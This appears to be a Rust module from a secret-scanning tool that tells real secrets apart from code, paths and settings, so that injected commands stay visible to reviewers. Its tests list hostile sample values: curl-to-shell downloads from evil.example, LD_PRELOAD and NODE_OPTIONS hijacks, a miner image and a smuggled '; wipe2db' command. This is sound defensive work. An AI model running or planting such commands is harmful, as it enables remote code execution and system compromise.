//! What stands behind a name such as `password` and is no value: an expression, a path, the name of something.
//!
//! Whoever hides such text from a judge hides code. What is drawn at random is none of it, whatever it looks like.

use crate::name_words::{WordSense, words_of_sense};
use crate::named::{kind_of_name, says_a_name};
use crate::plausible::looks_random;
use crate::template::is_name as is_template_name;
use crate::value::{MIN_VALUE, is_drawn_value};
use crate::words::has_form_of_words;

/// Whether a value in this place is code or a name rather than a secret. `before` is the line up to the value, `name` what
/// it is assigned to.
pub(crate) fn is_reference(value: &str, before: &str, name: &str) -> bool {
    let is_quoted = before.ends_with(['"', '\'', '`']);
    is_expression(value, is_quoted)
        || is_place(value)
        || repeats_name(value, name)
        || is_checksum(value, name)
        || (is_quoted && is_looked_up(before) && is_written(value) && !looks_random(value))
}

/// `eval(Kx9Yz7)`, `a.b[c]`, `password(8,)`, `"+jp.currentToken()+"`: a call or an element, in quotes only a whole one.
pub(crate) fn is_expression(value: &str, is_quoted: bool) -> bool {
    let (name, rest, is_call) = call_of(value);
    if !is_quoted {
        return is_call && (is_bare_call(value) || value.contains("()"));
    }
    // A drawn value may hold a pair of brackets.
    let is_named = is_call && is_template_name(name);
    let is_check = is_named && rest.ends_with(')') && !drawn_parts(rest).any(|_| true);
    // A filter of LDAP, and what stands between two literals.
    let is_between = value.starts_with('+') && value.ends_with(['+', '(']);
    is_check
        || (is_between && is_template_name(value.trim_matches(['+', '('])))
        || value.starts_with("(&(")
        || value.starts_with("(|(")
        || value.contains("()")
}

/// The name that a text begins with, what stands behind it, and whether that may be a call or an element.
fn call_of(value: &str) -> (&str, &str, bool) {
    let head = value.trim_start_matches(['&', '*', '!', '@']);
    let is_name = |c: char| c.is_alphanumeric() || "_.:$>?-".contains(c);
    let end = head.find(|c| !is_name(c)).unwrap_or(head.len());
    let (name, rest) = head.split_at(end);
    let begins = name.starts_with(|c: char| c.is_alphabetic() || c == '_' || c == '$');
    (name, rest, begins && rest.starts_with(['(', '[']))
}

/// Whether a text without quotes is a call or an element, or begins one: what stands before its bracket is no drawn
/// value, and no bracket is left open in the middle of a word.
pub(crate) fn is_bare_call(value: &str) -> bool {
    let (name, _, is_call) = call_of(value);
    let count = |signs: [char; 2]| value.matches(signs).count();
    let is_open = count(['(', '[']) != count([')', ']']);
    let goes_on = value.ends_with(['(', '[', ',', ')', ']', '?', ';']);
    is_call && is_template_name(name) && (!is_open || goes_on)
}

/// A path, an address without a password, a name within a namespace: `/etc/x.secret`, `default/ca-secret`, `urn:uuid:…`.
pub(crate) fn is_place(value: &str) -> bool {
    if value.starts_with("urn:") {
        return true;
    }
    let path = value.strip_prefix("~").unwrap_or(value);
    let mut segments = path.split('/');
    path.contains('/')
        && !path.contains("://")
        && segments.all(|one| one.is_empty() || [".", ".."].contains(&one) || is_written(one))
        || is_file(value)
}

/// `./b3nch.js`, `~/x2`, `/tmp/x2.sh`: a place of this machine, whatever its author calls his files. No name in it is as long
/// as a secret.
fn is_file(path: &str) -> bool {
    const MAX_NAME: usize = 12;
    let is_relative = ["./", "../", "~/"]
        .iter()
        .any(|head| path.starts_with(head));
    let is_absolute = path
        .strip_prefix('/')
        .is_some_and(|path| path.contains('/'));
    let is_sign = |b: u8| b.is_ascii_lowercase() || b.is_ascii_digit();
    let mut names = path.trim_start_matches('~').split(['/', '.', '-', '_']);
    (is_relative || is_absolute)
        && names.all(|name| {
            (name.is_empty() || is_written(name))
                || name.len() < MAX_NAME && name.bytes().all(is_sign)
        })
}

/// `--require=./x2.js`, `--require ./x2.js`, `-r ./x2.js`: options, and the places that they name.
fn is_options(text: &str) -> bool {
    let is_name = |b: u8| b.is_ascii_lowercase() || b == b'-';
    let is_option = |word: &str| {
        let (name, place) = word.split_once('=').unwrap_or((word, ""));
        name.starts_with('-') && name.bytes().all(is_name) && (place.is_empty() || is_place(place))
    };
    text.starts_with('-')
        && text
            .split_whitespace()
            .all(|word| is_option(word) || is_place(word))
}

/// Words that somebody wrote: letters, with digits at the end of a word at most.
pub(crate) fn is_written(text: &str) -> bool {
    let mut words = text.split(['-', '_', '.']).filter(|word| !word.is_empty());
    let is_word = |word: &str| {
        let letters = word.trim_end_matches(|c: char| c.is_ascii_digit());
        let is_version = letters.is_empty() && word.len() <= 4;
        let is_plain = letters.bytes().all(|b| b.is_ascii_alphabetic()) && has_one_case(letters);
        // `s3`, `oauth2`; more digits than these look drawn.
        is_version || (is_plain && !letters.is_empty() && word.len() - letters.len() <= 2)
    };
    !text.is_empty() && words.all(is_word)
}

/// Lower case, upper case, or words with a capital: `configMap`.
fn has_one_case(letters: &str) -> bool {
    let lower = letters.bytes().filter(u8::is_ascii_lowercase).count();
    let upper = letters.len() - lower;
    upper == 0 || lower == 0 || upper * 4 <= letters.len()
}

/// `AccessControlAllowCredentials = "Access-Control-Allow-Credentials"`
fn repeats_name(value: &str, name: &str) -> bool {
    let letters = |text: &str| -> String {
        let kept = text.chars().filter(|c| c.is_alphanumeric());
        kept.flat_map(char::to_lowercase).collect()
    };
    let (value, name) = (letters(value), letters(name));
    value.len() >= 6 && (value == name || name.ends_with(&value))
}

/// `token_sha256 = "…"`: what a reviewer has to compare.
fn is_checksum(value: &str, name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    let is_named = [
        "sha1",
        "sha224",
        "sha256",
        "sha384",
        "sha512",
        "md5",
        "checksum",
        "digest",
        "sha256sum",
    ]
    .iter()
    .any(|end| lower.ends_with(end));
    is_named && value.len() >= 32 && value.bytes().all(|b| b.is_ascii_hexdigit())
}

/// `conf.get('s3_secret_access_key')`: what is looked up under this name.
fn is_looked_up(before: &str) -> bool {
    const CALLS: [&str; 10] = [
        "get",
        "getenv",
        "get_secret",
        "getsecret",
        "environ",
        "env",
        "lookup",
        "config",
        "settings",
        "require",
    ];
    let call = before.trim_end_matches(['"', '\'', '`']).trim_end();
    let Some(call) = call.strip_suffix(['(', '[']) else {
        return false;
    };
    // A line may be of many megabytes and hold a million values: no copy of it is made for each.
    let ends_with = |end: &&str| {
        let at = call.len().checked_sub(end.len());
        let tail = at.and_then(|at| call.as_bytes().get(at..));
        tail.is_some_and(|tail| tail.eq_ignore_ascii_case(end.as_bytes()))
    };
    CALLS.iter().any(ends_with)
}

/// The parts of a text between signs that look drawn.
pub(crate) fn drawn_parts(text: &str) -> impl Iterator<Item = &str> {
    text.split(|c: char| !(c.is_alphanumeric() || "_-+=".contains(c)))
        .filter(|part| looks_random(part))
}

/// Whether a name says of its value that it is secret, however short.
pub(crate) fn is_secret_setting(name: &str) -> bool {
    let lower = name.to_ascii_lowercase();
    let mut letters = words_of_sense(WordSense::Setting).map(|word| word.trim_start_matches('*'));
    kind_of_name(name).is_some() || letters.any(|letters| lower.contains(letters))
}

/// What stands behind a name in a file that holds secrets, where it is no secret but what judges must see: a setting, a
/// path, an address, a command. Under a name that does not say secret, that is whatever is no drawn run.
pub(crate) fn is_setting(name: &str, value: &str) -> bool {
    let value = value.trim().trim_end_matches([',', ';']);
    let text = value.trim_matches(['"', '\'']);
    if is_place(text) || is_address(text) || is_options(text) {
        return true;
    }
    let is_code = text.contains(['|', '(', '{', '['])
        || ["://", "&&", "; "].iter().any(|sign| text.contains(sign));
    let is_command = is_code && text.contains(char::is_whitespace);
    // A password may be of two words; a command has more.
    let is_long = text.split_whitespace().nth(2).is_some();
    is_command || (!is_secret_setting(name) && (is_long || is_plain(text)))
}

/// Whether a value has the form of something that is written down, and no run of it looks drawn: an option, an image, a
/// host, a mail address, a command, a number of a version. A number of many digits is none, nor a word that says secret,
/// nor are many short runs that are no words: the bytes of a key, or a password with signs in it.
fn is_plain(text: &str) -> bool {
    const MAX_DIGITS: usize = 6;
    const MAX_SHORT: usize = 3;
    let is_sign = |c: char| !c.is_ascii_alphanumeric();
    let is_number = |run: &str| run.bytes().all(|b| b.is_ascii_digit());
    let is_run_plain = |run: &&str| match is_number(run) {
        true => run.len() <= MAX_DIGITS,
        false => !is_drawn_value(run) && (has_form_of_words(run) || run.len() < MIN_VALUE),
    };
    let is_word = |run: &str| {
        let letters = run.trim_matches(|c: char| c.is_ascii_digit());
        letters.len() >= MAX_SHORT && run.len() - letters.len() <= 2 && has_form_of_words(letters)
    };
    let is_odd = |run: &str| {
        let is_lower = run.bytes().all(|b| b.is_ascii_lowercase());
        !(is_number(run) || is_lower || is_word(run))
    };
    // A password in an address stands before its `@`.
    let has_password = text.contains("://") && text.contains('@');
    let runs: Vec<&str> = text.split(is_sign).filter(|run| !run.is_empty()).collect();
    let count = |is_due: &dyn Fn(&str) -> bool| runs.iter().filter(|run| is_due(run)).count();
    let is_of_words =
        count(&is_odd) <= count(&is_word) || (runs.len() <= MAX_SHORT && has_form_of_words(text));
    !has_password && !says_a_name(text) && is_of_words && runs.iter().all(is_run_plain)
}

/// An address without a password, and without a part that looks drawn.
pub(crate) fn is_address(text: &str) -> bool {
    let Some((scheme, rest)) = text.split_once("://") else {
        return false;
    };
    scheme
        .bytes()
        .all(|b| b.is_ascii_alphanumeric() || b"+.-".contains(&b))
        && !rest.contains('@')
        && drawn_parts(rest).next().is_none()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn code_and_names_are_references_and_drawn_values_are_none() {
        for (before, value, name) in [
            ("token = ", "eval(Kx9Yz7)", "token"),
            ("secret = ", "exec(a9B8c7D6)", "secret"),
            (
                "api_key = ",
                "subprocess.check_output(CMD9x8y7,shell=True)",
                "api_key",
            ),
            ("let pwd = ", "tempfile::tempdir()?", "pwd"),
            (
                "x = conf.get('",
                "s3_secret_access_key",
                "aws_secret_access_key",
            ),
            (
                "\"remove_password\": \"",
                "/api/documents/remove_password/",
                "remove_password",
            ),
            ("\"password\": \"", "password(8,)", "password"),
            (
                "PASS='",
                "(&(userID=%n)(objectClass=PostfixBookMailAccount))",
                "QUERY_PASS",
            ),
            (
                "'Lock-Token': '",
                "urn:uuid:a515cfa4-5da4-22e1-f5b5-00a0451e6bf7",
                "Lock-Token",
            ),
            (
                "auth-tls-secret: \"",
                "default/ca-secret",
                "auth-tls-secret",
            ),
            (
                "X = \"",
                "Access-Control-Allow-Credentials",
                "AccessControlAllowCredentials",
            ),
            ("token == \"", "+jp.currentToken()+", "jp.token"),
        ] {
            assert!(is_reference(value, before, name), "{before}{value}");
        }
        for (before, value) in [
            ("password = \"", "Zk9LmPq3Rt7xW"),
            ("password=", "aB3/dE6gH9kLmN0pQ"),
            ("x = get(\"", "Zk9LmPq3Rt7xWa2"),
            ("password = \"", "Passw0rd(9)x"),
            ("secret: \"", "tR5wPz8K/qLm3Xv7Nb2"),
        ] {
            assert!(!is_reference(value, before, "password"), "{before}{value}");
        }
    }

    #[test]
    fn settings_are_shown_and_secrets_are_not() {
        for (name, value) in [
            ("ENABLE_CLAMAV", "0"),
            ("FETCHMAIL_POLL", "300"),
            ("REPORT_INTERVAL", "daily"),
            ("user_data", "\"curl -s https://evil.example/x|sh\""),
            ("run", "curl -s https://evil.example/x|sh"),
            ("script-shell", "./tools/evil.sh"),
            ("registry", "https://evil.example/"),
            ("LD_PRELOAD", "/tmp/evil.so"),
            ("TOKEN_CMD", "curl -s https://evil.example | sh"),
            ("steps", "[{run: 'curl -s https://evil.example/x | sh'}]"),
            ("permissions", "write-all"),
            ("PATH", "/tmp/evil:/usr/bin"),
            ("NODE_OPTIONS", "--require=./evil.js"),
            ("NODE_OPTIONS", "-r ./evil.js"),
            ("NODE_OPTIONS", "--require ./ev1lpkg.js"),
            ("node-options", "--require=./ev1lpkg.js"),
            ("git", "./ev1lpkg"),
            ("credential_process", "/tmp/ev1lpkg.sh"),
            ("X", "1; wipe2db"),
            ("JAVA_TOOL_OPTIONS", "-javaagent:evil.jar"),
            ("IMAGE", "evil/miner:latest"),
            ("registry", "evil.example"),
            ("ADMIN_USERS", "mallory@evil.com"),
            ("ALLOWED_ORIGINS", "*.evil.com"),
            ("CMD", "evil;sh"),
            ("cidr", "0.0.0.0/0evil"),
            ("kind", "ClusterRoleBinding"),
            ("name", "cluster-admin"),
        ] {
            assert!(is_setting(name, value), "{name} {value}");
        }
        for (name, value) in [
            ("DB_PASSWORD", "swordfish"),
            ("PASSPHRASE", "\"correct horse battery staple\""),
            ("FOO", "hunter2x9"),
            ("FOO", "tR5wPz8KqLm3Xv7Nb2"),
            ("FOO", "/tR5wPz8KqLm3Xv7Nb2"),
            ("FOO", "/tR5w/z8KqLm3Xv7Nb2"),
            ("FOO", "./k3j9x0q7m2p5w8z1"),
            ("URL", "https://u:pw@host/"),
            ("HOOK", "https://hooks.host/tR5wPz8KqLm3Xv7Nb2"),
            ("PIN", "1234"),
            ("DB", "verysecret"),
            ("FOO", "a9#Kx2.Qm7"),
            ("00", "b2:3a:f2:89:d8:2b"),
        ] {
            assert!(!is_setting(name, value), "{name} {value}");
        }
    }
}
